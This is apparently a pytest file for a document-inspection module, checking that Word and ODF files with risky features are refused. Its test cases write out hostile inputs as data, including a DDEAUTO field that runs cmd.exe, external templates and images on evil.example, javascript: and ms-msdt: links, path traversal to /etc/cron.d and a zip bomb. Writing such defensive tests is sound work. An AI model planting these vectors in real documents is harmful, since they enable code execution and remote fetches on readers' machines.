"""content.media.inspection.children.office: programs, embedded and external content are refused."""

import io
import zipfile

import pytest

from content.media.inspection.limits import Limits
from content.media.inspection.result import Refusal
from tests.content.media.inspection.here import refusal_of

BASE = "application/vnd.openxmlformats-officedocument."
MAIN = f"{BASE}wordprocessingml.document.main+xml"
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
ODF = "application/vnd.oasis.opendocument.text"
XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"'
TEXT = f'<o:document-content xmlns:o="o" xmlns:t="t" {XLINK}>{{}}</o:document-content>'


def archive(files: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, held in files.items():
            made.writestr(name, held)
    return out.getvalue()


def types(main: str = MAIN) -> str:
    return f'<Types xmlns="x"><Override PartName="/word/document.xml" ContentType="{main}"/></Types>'


def docx(more: dict[str, str | bytes] | None = None, body: str = "<w:p/>", main: str = MAIN) -> bytes:
    return archive(
        {
            "[Content_Types].xml": types(main),
            "_rels/.rels": relation("officeDocument", "word/document.xml", "Internal"),
            "word/document.xml": f"<w:document {WORD}>{body}</w:document>",
            "docProps/core.xml": '<c:coreProperties xmlns:c="c"><creator>Cara</creator></c:coreProperties>',
            **(more or {}),
        }
    )


def relation(kind: str, target: str, mode: str = "External") -> str:
    return f'<R xmlns="r"><x Type="http://o/{kind}" Target="{target}" TargetMode="{mode}"/></R>'


def related(kind: str, target: str) -> bytes:
    return docx({"word/_rels/document.xml.rels": relation(kind, target)})


def odt(more: dict[str, str | bytes] | None = None, body: str = "<t:p>Plain</t:p>") -> bytes:
    listed = "".join(f'<m:file-entry m:full-path="{path}"/>' for path in ("/", "Thumbnails/a.png"))
    manifest = f'<m:manifest xmlns:m="m">{listed}</m:manifest>'
    files: dict[str, str | bytes] = {
        "mimetype": ODF,
        "content.xml": TEXT.format(body),
        "META-INF/manifest.xml": manifest,
    }
    return archive({**files, "meta.xml": "<meta>Cara</meta>", "Thumbnails/a.png": b"x", **(more or {})})


def field(text: str) -> bytes:
    """Word spreads the text of a field over several runs."""
    half = len(text) // 2
    return docx(body=f"<w:instrText>{text[:half]}</w:instrText><w:instrText>{text[half:]}</w:instrText>")


REFUSED = {
    "macros": (docx({"word/vbaProject.bin": b"x"}), Refusal.OFFICE_MACROS),
    "the kind with macros": (docx(main="application/vnd.ms-word.document.macroEnabled"), Refusal.OFFICE_MACROS),
    "an embedded object": (docx({"word/embeddings/oleObject1.bin": b"x"}), Refusal.OFFICE_EMBEDDED),
    "an embedded table": (docx({"word/embeddings/a.xlsx": b"x"}), Refusal.OFFICE_EMBEDDED),
    "a control": (docx({"word/activeX/activeX1.xml": "<x/>"}), Refusal.OFFICE_EMBEDDED),
    "a program": (docx({"word/media/a.exe": b"MZ"}), Refusal.OFFICE_EMBEDDED),
    "a page": (docx({"word/a.html": b"<script>"}), Refusal.OFFICE_EMBEDDED),
    "an object by reference": (related("oleObject", "a"), Refusal.OFFICE_EMBEDDED),
    "a template from elsewhere": (related("attachedTemplate", "http://evil.example/a.dotm"), Refusal.OFFICE_EXTERNAL),
    "a picture from elsewhere": (related("image", "http://evil.example/a.png"), Refusal.OFFICE_EXTERNAL),
    "a frame": (related("frame", "\\\\evil\\share"), Refusal.OFFICE_EXTERNAL),
    "a link that runs": (related("hyperlink", "javascript:evil()"), Refusal.OFFICE_EXTERNAL),
    "a link to a file": (related("hyperlink", "file:///c:/a.exe"), Refusal.OFFICE_EXTERNAL),
    "a tool of Windows by link": (related("hyperlink", "ms-msdt:/id"), Refusal.OFFICE_EXTERNAL),
    "a linked table": (docx({"xl/externalLinks/externalLink1.xml": "<x/>"}), Refusal.OFFICE_EXTERNAL),
    "a field that starts a program": (field('DDEAUTO c:\\\\cmd.exe "/k calc"'), Refusal.OFFICE_EXTERNAL),
    "a field that fetches": (field('INCLUDEPICTURE "http://evil.example"'), Refusal.OFFICE_EXTERNAL),
    "entities": (docx({"word/a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), Refusal.DAMAGED),
    "a name that leads out": (docx({"../../etc/cron.d/a.xml": "<a/>"}), Refusal.HIDDEN_DATA),
    "a name of Windows that leads out": (docx({"..\\a.xml": "<a/>"}), Refusal.HIDDEN_DATA),
    "the same name twice": (docx({"WORD/document.xml": "<a/>"}), Refusal.HIDDEN_DATA),
    "an archive only": (archive({"_rels/a.xml": "<a/>"}), Refusal.ARCHIVE),
    "half of it": (docx()[:200], Refusal.TRUNCATED),
    "a bomb": (docx({"word/media/a.png": bytes(2_000_000)}), Refusal.TOO_MUCH_MEMORY),
    "too many parts": (docx({f"word/{number}.xml": "<a/>" for number in range(60)}), Refusal.TOO_COMPLEX),
    "macros in odf": (odt({"Basic/script-lc.xml": "<a/>"}), Refusal.OFFICE_MACROS),
    "events in odf": (odt(body='<s:event-listener xmlns:s="s"/>'), Refusal.OFFICE_MACROS),
    "an object in odf": (odt({"Object 1/content.xml": "<a/>"}), Refusal.OFFICE_EMBEDDED),
    "a plugin in odf": (odt(body='<d:plugin xmlns:d="d"/>'), Refusal.OFFICE_EMBEDDED),
    "a program in odf": (odt({"Pictures/a.exe": b"MZ"}), Refusal.OFFICE_EMBEDDED),
    "a picture from elsewhere in odf": (odt(body='<i xlink:href="http://evil.example/a"/>'), Refusal.OFFICE_EXTERNAL),
    "a link that runs in odf": (odt(body='<t:a xlink:href="vnd.sun.star.script:evil"/>'), Refusal.OFFICE_EXTERNAL),
    "dde in odf": (odt(body='<o:dde-source/>'), Refusal.OFFICE_EXTERNAL),
    "a password in odf": (odt({"META-INF/manifest.xml": "<m><encryption-data/></m>"}), Refusal.ENCRYPTED),
    "another kind of odf": (odt({"mimetype": f"{ODF}-master"}), Refusal.ARCHIVE),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_refused(case: str) -> None:
    data, expected = REFUSED[case]
    assert refusal_of(data, Limits(unpacked_bytes=1_000_000, entries=50)) == expected
